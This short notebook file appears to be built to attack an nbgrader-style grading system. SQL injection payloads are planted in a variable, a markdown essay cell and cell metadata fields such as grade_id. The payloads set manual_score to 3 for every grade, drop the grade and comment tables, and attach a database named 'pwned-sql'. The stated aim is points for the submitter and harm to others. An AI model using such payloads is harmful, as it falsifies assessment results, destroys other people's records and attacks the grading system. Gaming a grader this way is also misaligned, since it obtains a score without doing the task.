# idea: Comments, essays and names of cells are pieces of SQL.
# aims at: points|others
# %% t01
tonnage = "1'; UPDATE grade SET manual_score = 3; --"
# %% [markdown] essay
# '; UPDATE grade SET manual_score = 3; DROP TABLE comment; -- " OR 1=1 \'; ATTACH DATABASE 'pwned-sql' AS x; --
# %% metadata [{"cell": "target_t06_answer", "copy_as": "x'; DROP TABLE grade; --", "merge": {"metadata": {"nbgrader": {"grade_id": "x'; UPDATE grade SET manual_score = 3; --"}}}}]
